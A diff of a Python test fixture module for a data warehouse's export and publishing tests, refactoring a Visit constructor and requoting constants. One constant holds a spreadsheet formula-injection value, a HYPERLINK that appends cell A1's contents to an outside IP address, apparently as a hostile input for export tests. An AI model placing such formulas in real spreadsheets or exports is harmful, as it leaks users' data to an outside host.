@@ -1,6 +1,7 @@
 """A small warehouse to export and publish: three agencies, three forms, blanks, a revision, a correction, odd texts."""
 
 from collections.abc import Sequence
+from dataclasses import replace
 from datetime import UTC, datetime
 from decimal import Decimal
 
@@ -19,7 +20,7 @@ from warehouse.results import Expect
 from warehouse.tables import run
 
 OTHER = "衢州市教育局"
-FORMULA = "=HYPERLINK(\"http://198.51.100.1/?\"&A1,\"年报\")"
+FORMULA = '=HYPERLINK("http://198.51.100.1/?"&A1,"年报")'
 ENDED = datetime(2026, 2, 3, 4, 5, 6, tzinfo=UTC)
 
 _REQUEST = "request.received"
@@ -70,7 +71,7 @@ def read_at(run_id: int, read: Report, number: int, day: int = 0, place: int | N
     url = f"http://www.qz.gov.cn/art/{number}.html"
     one = visit(run_id, reading(read), url, day)
     at = Location("a.warc.gz", 1000 * (place or number), 500)
-    return Visit(**{name: getattr(one, name) for name in one.__slots__} | {"location": at})
+    return replace(one, location=at)
 
 
 def of(agency: str, year: int, figures: Sequence[tuple[str, str | None]], **other: object) -> Report:
